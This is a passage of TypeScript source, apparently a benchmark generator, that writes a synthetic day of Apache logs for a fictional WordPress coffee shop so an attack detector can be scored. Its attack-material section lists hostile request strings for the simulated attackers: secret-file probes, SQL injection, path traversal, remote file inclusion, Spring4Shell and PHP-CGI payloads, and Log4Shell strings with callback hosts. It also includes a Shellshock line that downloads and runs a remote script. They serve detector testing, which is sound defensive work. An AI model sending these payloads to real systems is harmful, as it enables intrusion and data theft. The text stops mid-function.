/**
 * A synthetic 24-hour access log of one WordPress site with a member area, and, in a separate
 * file, the truth about every source in it (which behaviour it is, attacking or not). Nothing in
 * the log says which is which: attackers and visitors draw addresses from the same allocator and
 * write the same formats. Deterministic for a given seed.
 *
 * Run alone: `node --import tsx bench/day.ts [--lines N] [--seed N] [--out DIR]`; `bench/recall.ts`
 * imports it and scores the detector against the truth.
 */
import { once } from 'node:events';
import { closeSync, createWriteStream, mkdirSync, mkdtempSync, openSync, readFileSync, rmSync, writeFileSync, writeSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseArgs } from 'node:util';
import { rng } from './generate.js';

/** Facts about one behaviour, written to the truth file. */
export interface BehaviourInfo {
  attacking: boolean;
  description: string;
}

/** What one source (an IPv4 address or an IPv6 /64) really is. */
export interface TruthSource {
  behaviour: string;
  attacking: boolean;
  requests: number;
}

/** The truth file: written apart from the log, never read by the detector. */
export interface DayTruth {
  version: 1;
  seed: number;
  /** First and last instant of the day (ISO 8601, UTC). */
  from: string;
  to: string;
  lines: number;
  behaviours: Record<string, BehaviourInfo>;
  /** By source: an IPv4 address, an IPv6 address (`::1`) or an IPv6 prefix (`2a02:…::/64`). */
  sources: Record<string, TruthSource>;
}

/** The behaviours, in the order the recall table prints them. */
export const BEHAVIOURS: Record<string, BehaviourInfo> = {
  browser: { attacking: false, description: 'visitors: pages and assets, broken links, one sign-up, login with typos, one comment' },
  'nat-gateway': { attacking: false, description: 'an office NAT and a mobile carrier NAT: dozens of visitors behind one address' },
  'search-crawler': { attacking: false, description: 'Googlebot, Bingbot and others crawling all day, old links included' },
  'uptime-checker': { attacking: false, description: 'uptime monitors and an internal health probe' },
  'apache-dummy': { attacking: false, description: 'Apache `OPTIONS *` internal dummy connections from 127.0.0.1 and ::1' },
  'api-client': { attacking: false, description: "the site's own API clients: a partner sync, a headless front end, a report job" },
  'fast-scanner': { attacking: true, description: 'dozens of missing paths within a minute' },
  'ipv6-rotating-scanner': { attacking: true, description: 'a scanner on an IPv6 /64 using a new address for every probe' },
  'slow-scanner-hours': { attacking: true, description: 'one probe every 10–60 s for 2–6 hours' },
  'slow-scanner-day': { attacking: true, description: 'one probe every 2–8 minutes all day' },
  'scanner-tool': { attacking: true, description: 'Nikto, sqlmap, Nuclei, WPScan runs throttled to ~14 requests over minutes to hours' },
  'secret-hunter': { attacking: true, description: '.env, .git, backups and keys, one request every few minutes' },
  'exploit-shot': { attacking: true, description: 'one or two exploit requests: Log4Shell, Shellshock, traversal, RFI, Spring4Shell, PHP code' },
  'registration-spam': { attacking: true, description: 'a botnet registering accounts: GET then POST /register within seconds, no assets' },
  'comment-spam': { attacking: true, description: 'comment and contact-form spam spread over the day' },
  'credential-stuffing': { attacking: true, description: 'hundreds of POST /login from one address within an hour' },
  'credential-stuffing-distributed': { attacking: true, description: 'a few POST /login per address from many addresses' },
  'author-enumeration': { attacking: true, description: 'WordPress user enumeration with /?author=1..N' },
  'open-proxy-probe': { attacking: true, description: 'CONNECT to port 25 or 443, absolute-URI GETs for other hosts' },
};

// ── site ─────────────────────────────────────────────────────────────────────────────────────

const HOST = 'www.example.org';
const SITE = `https://${HOST}`;
const THEME = '/wp-content/themes/harbor';
const SLUGS = [
  'winter-harbour-walk',
  'how-we-roast-our-beans',
  'a-guide-to-pour-over',
  'opening-hours-for-the-holidays',
  'meet-the-team',
  'new-espresso-blend',
  'cold-brew-at-home',
  'our-trip-to-huila',
  'water-hardness-and-coffee',
  'grinder-buying-guide',
  'latte-art-workshop-recap',
  'decaf-done-right',
  'storing-coffee-beans',
  'aeropress-recipes',
  'the-story-of-our-logo',
  'market-stall-saturdays',
];
const PRODUCTS = [
  'house-blend-250g',
  'house-blend-1kg',
  'ethiopia-guji',
  'colombia-huila',
  'decaf-swiss-water',
  'espresso-cups-set',
  'v60-dripper',
  'gift-card',
];

/** The pages that exist, with their typical size. */
const PAGES: string[] = [
  '/',
  '/about/',
  '/blog/',
  '/shop/',
  '/contact',
  '/visit-us/',
  '/wholesale/',
  '/faq/',
  '/privacy-policy/',
  '/category/news/',
  '/category/brewing/',
  '/blog/page/2/',
  '/blog/page/3/',
  ...SLUGS.map((s, i) => `/${2021 + (i % 3)}/${String(1 + ((i * 5) % 12)).padStart(2, '0')}/${s}/`),
  ...PRODUCTS.map((p) => `/product/${p}/`),
];
const POSTS = PAGES.filter((p) => /^\/20\d\d\//.test(p));

/** Old links from other sites and old bookmarks: these answer 404. */
const DEAD_LINKS = [
  '/2019/04/spring-menu/',
  '/product/kenya-aa/',
  '/product/brazil-santos-500g/',
  '/events/',
  '/shop/?add-to-cart=412',
  '/wp-content/uploads/2020/02/menu.pdf',
  '/2020/11/black-friday/',
  '/blog/feed/atom/',
  '/careers/',
  '/index.html',
  '/old-site/contact.html',
  '/product-category/equipment/grinders/',
];

const ASSETS_FIRST = [
  `${THEME}/style.css?ver=2.3.1`,
  `${THEME}/assets/js/navigation.js?ver=2.3.1`,
  '/wp-includes/js/jquery/jquery.min.js?ver=3.7.1',
  '/wp-includes/js/jquery/jquery-migrate.min.js?ver=3.4.1',
  '/wp-includes/css/dist/block-library/style.min.css?ver=6.4.3',
  `${THEME}/assets/fonts/inter-var.woff2`,
  `${THEME}/assets/img/logo.svg`,
  '/wp-content/plugins/woocommerce/assets/css/woocommerce.css?ver=8.5.2',
  '/wp-content/plugins/woocommerce/assets/js/frontend/cart-fragments.min.js?ver=8.5.2',
];
const IMAGES = Array.from(
  { length: 80 },
  (_, i) => `/wp-content/uploads/${2021 + (i % 3)}/${String(1 + (i % 12)).padStart(2, '0')}/img-${4100 + i * 7}-${i % 2 ? '768x512' : '1024x683'}.jpg`,
);

const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36 Edg/121.0.0.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:123.0) Gecko/20100101 Firefox/123.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3.1 Safari/605.1.15',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_3_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 16_7_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (iPad; CPU OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.6261.64 Mobile Safari/537.36',
  'Mozilla/5.0 (Linux; Android 13; SM-A536B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.6167.178 Mobile Safari/537.36',
  'Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/23.0 Chrome/115.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64; rv:122.0) Gecko/20100101 Firefox/122.0',
  'Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 OPR/106.0.0.0',
  // Older but genuine: the last Chrome for Windows 7, an old iPad.
  'Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36',
  'Mozilla/5.0 (iPad; CPU OS 12_5_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/12.1.2 Mobile/15E148 Safari/604.1',
];
const OUTDATED = [
  'Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36',
  'Mozilla/5.0 (Windows NT 6.1; rv:34.0) Gecko/20100101 Firefox/34.0',
  'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; SLCC2)',
  'Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; WOW64; Trident/6.0)',
  'Mozilla/5.0 (Windows NT 5.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/49.0.2623.112 Safari/537.36',
  'Opera/9.80 (Windows NT 6.1; U; ru) Presto/2.10.289 Version/12.02',
];
const SCRIPTED = ['python-requests/2.28.1', 'Go-http-client/1.1', 'Mozilla/5.0', 'curl/7.68.0', 'Java/1.8.0_292', 'Python-urllib/3.8', 'okhttp/3.12.1', '-'];
const SEARCH_TERMS = ['decaf', 'grinder', 'opening+hours', 'gift+card', 'v60', 'wholesale+prices', 'cold+brew', 'huila'];
const EXTERNAL_REFERERS = [
  'https://www.google.com/',
  'https://www.google.de/',
  'https://www.bing.com/',
  'https://duckduckgo.com/',
  'https://www.facebook.com/',
  'https://l.instagram.com/',
  'https://news.ycombinator.com/',
];

// ── attack material (written for this benchmark) ───────────────────────────────────────────

/** What a generic scanner asks for; most of it does not exist on this site. */
const PROBE_TARGETS = [
  '/.env',
  '/.env.bak',
  '/.env.production',
  '/.git/config',
  '/.git/HEAD',
  '/.svn/entries',
  '/.DS_Store',
  '/.htaccess',
  '/.htpasswd',
  '/config.php.bak',
  '/wp-config.php.bak',
  '/wp-config.php~',
  '/backup.zip',
  '/backup.tar.gz',
  '/db.sql',
  '/dump.sql',
  '/phpinfo.php',
  '/info.php',
  '/test.php',
  '/phpmyadmin/',
  '/pma/',
  '/myadmin/index.php',
  '/adminer.php',
  '/admin/',
  '/administrator/',
  '/manager/html',
  '/solr/admin/info/system',
  '/actuator/env',
  '/actuator/health',
  '/server-status',
  '/server-info',
  '/cgi-bin/luci',
  '/cgi-bin/test-cgi',
  '/HNAP1/',
  '/boaform/admin/formLogin',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/owa/auth/logon.aspx',
  '/remote/login',
  '/api/v1/pods',
  '/console/',
  '/jenkins/login',
  '/user/login',
  '/druid/index.html',
  '/login.action',
  '/webui/',
  '/.aws/credentials',
  '/config.json',
  '/sftp-config.json',
  '/.vscode/sftp.json',
  '/docker-compose.yml',
  '/app/etc/local.xml',
  '/shell.php',
  '/wso.php',
  '/alfa.php',
  '/wp-content/plugins/wp-file-manager/readme.txt',
  '/wp-content/debug.log',
  '/telescope/requests',
  '/_ignition/health-check',
  '/storage/logs/laravel.log',
  '/api/.env',
  '/laravel/.env',
  '/geoserver/web/',
  '/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application',
  '/autodiscover/autodiscover.json',
  '/global-protect/login.esp',
  '/dana-na/auth/url_default/welcome.cgi',
  '/nice%20ports%2C/Tri%6Eity.txt%2ebak',
  '/sdk',
  '/evox/about',
  '/version',
  '/login.jsp',
  '/index.jsp',
  '/mgmt/tm/sys/version',
  '/Autodiscover/Autodiscover.xml',
  '/portal/redlion',
  '/config/getuser?index=0',
  '/setup.cgi',
  '/cf_scripts/scripts/ajax/ckeditor/ckeditor.js',
  '/wp-admin/setup-config.php',
  '/wp-content/plugins/revslider/temp/update_extract/revslider/',
  '/xampp/',
  '/lib/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/installer.php',
  '/.well-known/security.txt',
  '/_profiler/phpinfo',
  '/.idea/workspace.xml',
  '/debug/default/view',
  '/web.config',
  '/elmah.axd',
  '/trace.axd',
  '/php.ini',
  '/.bash_history',
];
/** Directories scanners prefix to the targets above, to find an app in a subfolder. */
const PROBE_DIRS = ['', '/wordpress', '/wp', '/blog', '/old', '/new', '/backup', '/site', '/test', '/dev', '/public', '/app'];

const SECRET_TARGETS = [
  '/.env',
  '/.env.local',
  '/.env.save',
  '/.env.old',
  '/.git/config',
  '/.git/HEAD',
  '/.git/index',
  '/.git/logs/HEAD',
  '/wp-config.php.bak',
  '/wp-config.php.save',
  '/wp-config.php.swp',
  '/.wp-config.php.swp',
  '/wp-config.bak',
  '/backup.sql',
  '/backup.zip',
  '/www.zip',
  '/example.org.tar.gz',
  '/www.example.org.zip',
  '/db_backup.sql.gz',
  '/site-backup.tar',
  '/.aws/credentials',
  '/.ssh/id_rsa',
  '/config/database.yml',
  '/.npmrc',
  '/.docker/config.json',
  '/storage/.env',
  '/api/.env',
  '/.git-credentials',
  '/.htpasswd',
  '/database.sql.bak',
];

const TOOLS: Record<string, { ua: (i: number) => string; requests: readonly (readonly [string, string, number])[] }> = {
  nikto: {
    ua: (i) => `Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:${String(i).padStart(6, '0')})`,
    requests: [
      ['GET', '/', 200],
      ['GET', '/robots.txt', 200],
      ['GET', '/Kw2pQhN7.cfm', 404],
      ['GET', '/Kw2pQhN7.php', 404],
      ['OPTIONS', '/', 200],
      ['GET', '/cgi-bin/', 403],
      ['GET', '/admin.php', 404],
      ['GET', '/phpinfo.php', 404],
      ['GET', '/.git/HEAD', 404],
      ['GET', '/icons/README', 200],
      ['GET', '/server-status', 403],
      ['TRACE', '/', 405],
      ['GET', '/login.php', 404],
      ['GET', '/wp-config.php~', 404],
      ['GET', '/backup/', 404],
      ['GET', '/admin/login.html', 404],
    ],
  },
  sqlmap: {
    ua: () => 'sqlmap/1.8.2#stable (https://sqlmap.org)',
    requests: [
      ['GET', '/?p=12', 200],
      ['GET', '/?p=12%20AND%203151%3D3151', 200],
      ['GET', '/?p=12%20AND%203151%3D3152', 404],
      ['GET', '/?p=12%27%29%20AND%208514%3D8514%20AND%20%28%27xQvL%27%3D%27xQvL', 404],
      ['GET', '/?p=12%20ORDER%20BY%201--%20-', 200],
      ['GET', '/?p=12%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-', 404],
      ['GET', '/?p=12%3BSELECT%20SLEEP%285%29--', 404],
      ['GET', '/?s=coffee%27%20AND%20EXTRACTVALUE%281%2CCONCAT%280x5c%2C0x71%29%29--%20x', 200],
      ['GET', '/?s=coffee%22%20OR%20%221%22%3D%221', 200],
      [
        'GET',
        '/?p=12%20AND%20%28SELECT%202%2A%28IF%28%28SELECT%20%2A%20FROM%20%28SELECT%20CONCAT%280x71%29%29s%29%2C8446744073709551610%2C8446744073709551610%29%29%29',
        500,
      ],
      ['GET', '/?p=-5391%20OR%201%20GROUP%20BY%20CONCAT%280x71%2CFLOOR%28RAND%280%29%2A2%29%29', 404],
      ['GET', '/?p=12%29%20WAITFOR%20DELAY%20%270%3A0%3A5%27--', 404],
      ['GET', '/?p=12%20AND%201%3DCAST%28%28CHR%28113%29%29%20AS%20NUMERIC%29', 404],
      ['GET', '/?s=coffee%25%27%20AND%206692%3D6692%20AND%20%27%25%27%3D%27', 200],
    ],
  },
  nuclei: {
    ua: () => 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
    requests: [
      ['GET', '/', 200],
      ['GET', '/.git/config', 404],
      ['GET', '/actuator/env', 404],
      ['GET', '/wp-json/wp/v2/users', 200],
      ['GET', '/api/swagger.json', 404],
      ['GET', '/server-status', 403],
      ['GET', '/.DS_Store', 404],
      ['GET', '/debug/pprof/', 404],
      ['GET', '/jolokia/list', 404],
      ['GET', '/v2/_catalog', 404],
      ['GET', '/.well-known/openid-configuration', 404],
      ['POST', '/graphql', 404],
      ['GET', '/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php', 404],
      ['GET', '/phpinfo.php', 404],
      ['GET', '/config.json', 404],
    ],
  },
  wpscan: {
    ua: () => 'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)',
    requests: [
      ['GET', '/', 200],
      ['GET', '/readme.html', 200],
      ['GET', '/wp-content/plugins/akismet/readme.txt', 200],
      ['GET', '/wp-content/plugins/contact-form-7/readme.txt', 200],
      ['GET', '/wp-content/plugins/elementor/readme.txt', 404],
      ['GET', '/wp-json/wp/v2/users', 200],
      ['GET', '/?author=1', 301],
      ['GET', '/?author=2', 301],
      ['POST', '/xmlrpc.php', 200],
      ['GET', '/wp-content/debug.log', 404],
      ['GET', '/wp-content/uploads/', 200],
      ['GET', '/wp-cron.php', 200],
      ['GET', `${THEME}/style.css`, 200],
      ['GET', '/feed/', 200],
      ['GET', '/wp-content/backup-db/', 404],
    ],
  },
};

const CALLBACK = ['198.51.100.23:1389', '203.0.113.77:389', 'x4k2.oast.example:1389', '45.155.205.233:12344'];
/** Exploit requests: [method, target, status, where the payload sits]. */
const EXPLOITS: readonly (readonly [string, string, number, 'target' | 'ua' | 'referer'])[] = [
  ['GET', '/?x=${jndi:ldap://CB/a}', 200, 'target'],
  ['GET', '/', 200, 'ua'],
  ['GET', '/', 200, 'referer'],
  ['GET', '/?q=${${lower:j}${lower:n}${lower:d}i:${lower:r}mi://CB/o}', 200, 'target'],
  ['GET', '/', 200, 'ua'],
  ['GET', '/search?q=%24%7Bjndi%3Aldap%3A%2F%2FCB%2FExploit%7D', 404, 'target'],
  ['GET', '/cgi-bin/status', 404, 'ua'],
  ['GET', '/../../../../../../etc/passwd', 400, 'target'],
  ['GET', '/?file=../../../../etc/passwd', 200, 'target'],
  ['GET', '/index.php?page=..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd', 200, 'target'],
  ['GET', '/static/..%252f..%252f..%252f..%252fetc%252fpasswd', 404, 'target'],
  ['GET', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd', 400, 'target'],
  ['GET', '/download?file=....//....//....//....//etc/passwd', 404, 'target'],
  ['GET', '/index.php?page=http://203.0.113.50/sh.txt?', 200, 'target'],
  ['GET', '/?include=https://paste.example.net/raw/Xq3v9b&cmd=id', 200, 'target'],
  [
    'POST',
    '/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp',
    200,
    'target',
  ],
  ['GET', '/?class.module.classLoader.URLs%5B0%5D=0', 200, 'target'],
  ['GET', '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21', 200, 'target'],
  ['GET', '/?q=%3C%3Fphp%20system%28%27id%27%29%3B%20%3F%3E', 200, 'target'],
  ['POST', '/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp%3a//input', 200, 'target'],
  ['POST', '/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input', 404, 'target'],
];
const LOG4SHELL_HEADERS = [
  '${jndi:ldap://CB/ua}',
  '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://CB/z}',
  '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//CB/e}',
  '${jndi:dns://CB/r}',
];
const SHELLSHOCK = [
  '() { :; }; echo; echo; /bin/bash -c "cat /etc/passwd"',
  '() { :;}; /bin/bash -c "wget http://203.0.113.50/x.sh -O /tmp/x.sh; sh /tmp/x.sh"',
];

// ── generator ────────────────────────────────────────────────────────────────────────────────

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const TZ_MS = 3600_000; // the server logs in CET (+0100)
const DAY_START = Date.UTC(2024, 2, 11, 23, 0, 0); // 12 March 2024, 00:00 local time
const DAY_MS = 86_400_000;
const p2 = (n: number) => String(n).padStart(2, '0');

/** Apache escapes `"` and `\` in logged header values. */
const esc = (s: string) => s.replace(/\\/g, '\\\\').replace(/"/g, '\\"');

interface Source {
  key: string;
  behaviour: string;
  /** Addresses it sends from (one, or a rotating set inside its /64). */
  addr: () => string;
  /** Share of its requests that reach the default virtual host (logged in common format). */
  defaultVhost: number;
}

interface Req {
  method: string;
  target: string;
  status: number;
  bytes?: number;
  referer?: string;
  ua: string;
  proto?: string;
  user?: string;
}

/** Event time covered by one spool file: the day's lines are sorted one slice at a time. */
const SLICE_MS = 10 * 60_000;
/** Characters of a slice held before they are appended to its spool file. */
const SPOOL_FLUSH_CHARS = 64 * 1024;

/**
 * Holds the lines in the order they are made, in spool files of SLICE_MS of event time each,
 * so that a day of any length is generated in bounded memory (held in arrays, 5M lines did not
 * fit in the heap). `writeSorted` then sorts one slice at a time, by time and, for equal times,
 * in the order the lines were made: the same file the arrays gave.
 */
class Spool {
  private readonly dir = mkdtempSync(join(tmpdir(), 'probewatch-day-'));
  private readonly pending: string[] = [];
  private readonly fds: number[] = [];
  lines = 0;

  add(t: number, line: string): void {
    if (line.includes('\n')) throw new Error(`a generated line holds a line break: ${JSON.stringify(line.slice(0, 80))}`);
    const slice = Math.floor((t - DAY_START) / SLICE_MS);
    const text = `${this.pending[slice] ?? ''}${t}\t${line}\n`;
    this.lines++;
    if (text.length < SPOOL_FLUSH_CHARS) {
      this.pending[slice] = text;
      return;
    }
    this.pending[slice] = '';
    this.fds[slice] ??= openSync(join(this.dir, `slice-${slice}`), 'a');
    writeSync(this.fds[slice] as number, text);
  }

  /** Writes every line to `path` in time order, then removes the spool files. */
  async writeSorted(path: string): Promise<void> {
    const out = createWriteStream(path);
    try {
      const slices = Math.ceil(DAY_MS / SLICE_MS);
      let batch = '';
      for (let slice = 0; slice < slices; slice++) {
        let text = '';
        const fd = this.fds[slice];
        if (fd !== undefined) {
          closeSync(fd);
          text = readFileSync(join(this.dir, `slice-${slice}`), 'utf8');
        }
        text += this.pending[slice] ?? '';
        const rows = text.split('\n');
        rows.pop();
        const keyed = rows.map((row, i) => {
          const tab = row.indexOf('\t');
          return { t: Number(row.slice(0, tab)), i, line: row.slice(tab + 1) };
        });
        keyed.sort((a, b) => a.t - b.t || a.i - b.i);
        for (const k of keyed) {
          batch += `${k.line}\n`;
          if (batch.length > 1 << 20) {
            if (!out.write(batch)) await once(out, 'drain');
            batch = '';
          }
        }
      }
      out.end(batch);
      await once(out, 'finish');
    } finally {
      out.destroy();
      rmSync(this.dir, { recursive: true, force: true });
    }
  }
}

class DayWriter {
  readonly rand: () => number;
  readonly spool = new Spool();
  readonly truth = new Map<string, TruthSource>();
  private readonly usedV4 = new Set<string>();

  constructor(readonly seed: number) {
    this.rand = rng(seed);
  }

  pick<T>(xs: readonly T[]): T {
    return xs[Math.floor(this.rand() * xs.length)] as T;
  }
  int(lo: number, hi: number): number {
    return lo + Math.floor(this.rand() * (hi - lo + 1));
  }
  uniform(lo: number, hi: number): number {
    return lo + this.rand() * (hi - lo);
  }
  /** A time of day weighted towards the afternoon and evening, as human traffic is. */
  humanTime(): number {
    for (;;) {
      const t = this.rand() * DAY_MS;
      const hour = t / 3600_000;
      const w = 0.15 + 0.85 * Math.max(0, Math.sin(((hour - 6) / 18) * Math.PI));
      if (this.rand() < w) return DAY_START + t;
    }
  }

  /** A public IPv4 address not used before. */
  v4(prefix?: string): string {
    for (;;) {
      let ip: string;
      if (prefix) ip = `${prefix}.${this.int(1, 254)}`;
      else {
        const a = this.int(1, 223);
        const b = this.int(0, 255);
        if (a === 10 || a === 127 || a === 0 || (a === 100 && b >= 64 && b < 128) || (a === 169 && b === 254)) continue;
        if ((a === 172 && b >= 16 && b < 32) || (a === 192 && b === 168) || (a === 192 && b === 0) || (a === 198 && (b === 18 || b === 19 || b === 51)))
          continue;
        if (a === 203 && b === 0) continue;
        ip = `${a}.${b}.${this.int(0, 255)}.${this.int(1, 254)}`;
      }
      if (!this.usedV4.has(ip)) {
        this.usedV4.add(ip);
        return ip;
      }
    }
  }

  /** A fresh IPv6 /64 (groups without zeros, so the text is already canonical). */
  v6prefix(): string {
    const first = this.pick(['2a01', '2a02', '2a00', '2001', '2600', '2604', '2a0d', '2406', '2804']);
    const g = () => this.int(1, 0xffff).toString(16);
    let second = g();
    while (first === '2001' && second === 'db8') second = g();
    return `${first}:${second}:${g()}:${g()}`;
  }
  v6iid(): string {
    const g = () => this.int(1, 0xffff).toString(16);
    return `${g()}:${g()}:${g()}:${g()}`;
  }

  /** Registers a source in the truth. */
  source(key: string, behaviour: string, addr: () => string, defaultVhost = 0): Source {
    if (this.truth.has(key)) throw new Error(`source ${key} used twice`);
    const info = BEHAVIOURS[behaviour];
    if (!info) throw new Error(`unknown behaviour ${behaviour}`);
    this.truth.set(key, { behaviour, attacking: info.attacking, requests: 0 });
    return { key, behaviour, addr, defaultVhost };
  }
  sourceV4(behaviour: string, defaultVhost = 0, ip = this.v4()): Source {
    return this.source(ip, behaviour, () => ip, defaultVhost);
  }
  /** An IPv6 /64: a stable address, or (rotating) a new one per request. */
  sourceV6(behaviour: string, rotating: boolean, defaultVhost = 0): Source {
    const prefix = this.v6prefix();
    const fixed = `${prefix}:${this.v6iid()}`;
    return this.source(`${prefix}::/64`, behaviour, rotating ? () => `${prefix}:${this.v6iid()}` : () => fixed, defaultVhost);
  }

  /** Writes one request as the server would log it. */
  req(src: Source, t: number, r: Req): void {
    if (t < DAY_START || t >= DAY_START + DAY_MS) return; // outside the day: not in this file
    const local = new Date(Math.floor(t) + TZ_MS);
    const clf = `${p2(local.getUTCDate())}/${MONTHS[local.getUTCMonth()]}/${local.getUTCFullYear()}:${p2(local.getUTCHours())}:${p2(local.getUTCMinutes())}:${p2(local.getUTCSeconds())} +0100`;
    const request = `${r.method} ${r.target} ${r.proto ?? 'HTTP/1.1'}`;
    const bytes =
      r.bytes === undefined
        ? r.status === 304 || r.status === 204 || r.method === 'HEAD'
          ? '-'
          : String(this.int(180, 900))
        : r.bytes === 0
          ? '-'
          : String(r.bytes);
    const head = `${src.addr()} - ${r.user ?? '-'} [${clf}] "${esc(request)}" ${r.status} ${bytes}`;
    let line: string;
    if (src.defaultVhost > 0 && this.rand() < src.defaultVhost) line = head;
    else {
      line = `${head} "${r.referer ? esc(r.referer) : '-'}" "${esc(r.ua)}"`;
      // A second server behind round-robin DNS ships its log through syslog.
      if (this.rand() < 0.15) {
        const stamp = `${MONTHS[local.getUTCMonth()]} ${String(local.getUTCDate()).padStart(2, ' ')} ${p2(local.getUTCHours())}:${p2(local.getUTCMinutes())}:${p2(local.getUTCSeconds())}`;
        line = `${this.rand() < 0.2 ? '<190>' : ''}${stamp} web2 apache2[2143]: ${line}`;
      }
    }
    this.spool.add(t, line);
    const truth = this.truth.get(src.key) as TruthSource;
    truth.requests++;
  }

  // ── benign ──

  /** One visitor's day: sessions of page views with their assets, and at most one of each form. */
  visitor(src: Source, ua: string, opts: { from?: number; to?: number } = {}): void {
    const sessions = 1 + (this.rand() < 0.3 ? 1 : 0) + (this.rand() < 0.1 ? 1 : 0);
    const actions = new Set<string>();
    if (this.rand() < 0.04) actions.add('signup');
    if (this.rand() < 0.12) actions.add('login');
    if (this.rand() < 0.03) actions.add('comment');
    if (this.rand() < 0.01) actions.add('contact');
    if (this.rand() < 0.05) actions.add('search');
    let cached = false;
    for (let s = 0; s < sessions; s++) {
      let t = opts.from !== undefined && opts.to !== undefined ? this.uniform(opts.from, opts.to) : this.humanTime();
      let referer = this.rand() < 0.45 ? this.pick(EXTERNAL_REFERERS) : '';
      const pages = Math.min(20, 1 + Math.floor(-Math.log(1 - this.rand()) * 3));
      for (let p = 0; p < pages; p++) {
        const dead = this.rand() < 0.025;
        const page = dead ? this.pick(DEAD_LINKS) : p === 0 && this.rand() < 0.4 ? '/' : this.pick(PAGES);
        t = this.page(src, t, page, referer, ua, dead ? 404 : 200, !cached);
        if (!dead) cached = true;
        if (p === 0 && s === 0) this.req(src, t + 200, { method: 'GET', target: '/favicon.ico', status: 200, bytes: 4286, ua });
        if (!dead) referer = `${SITE}${page}`;
        t += this.uniform(4_000, 90_000);
        const action = [...actions][0];
        if (action && this.rand() < 0.35) {
          actions.delete(action);
          t = this.action(src, t, action, ua);
          referer = `${SITE}/`;
        }
      }
    }
  }

  /** A page and the assets the browser fetches for it; returns the time it finished. */
  page(src: Source, t: number, path: string, referer: string, ua: string, status: number, firstVisit: boolean): number {
    this.req(src, t, { method: 'GET', target: path, status, bytes: status === 200 ? this.int(9_000, 68_000) : this.int(14_000, 16_000), referer, ua });
    if (status !== 200) {
      // The 404 page is themed too: its stylesheet comes from the cache.
      return t + 300;
    }
    let at = t + this.uniform(80, 400);
    const url = `${SITE}${path}`;
    const assets = firstVisit ? ASSETS_FIRST : ASSETS_FIRST.filter(() => this.rand() < 0.15);
    for (const a of assets) {
      this.req(src, at, { method: 'GET', target: a, status: firstVisit ? 200 : 304, bytes: firstVisit ? this.int(2_000, 90_000) : 0, referer: url, ua });
      at += this.uniform(5, 120);
    }
    const images = this.int(1, 5);
    for (let i = 0; i < images; i++) {
      const cachedImg = !firstVisit && this.rand() < 0.5;
      this.req(src, at, {
        method: 'GET',
        target: this.pick(IMAGES),
        status: cachedImg ? 304 : 200,
        bytes: cachedImg ? 0 : this.int(20_000, 240_000),
        referer: url,
        ua,
      });
      at += this.uniform(5, 300);
    }
    return at;
  }

  /** A human filling in one form; returns the time they are done. */
  action(src: Source, t: number, action: string, ua: string): number {
    const form = (path: string) => {
      t = this.page(src, t, path, `${SITE}/`, ua, 200, false);
      t += this.uniform(20_000, 150_000);
    };
    switch (action) {
      case 'signup': {
        form('/register');
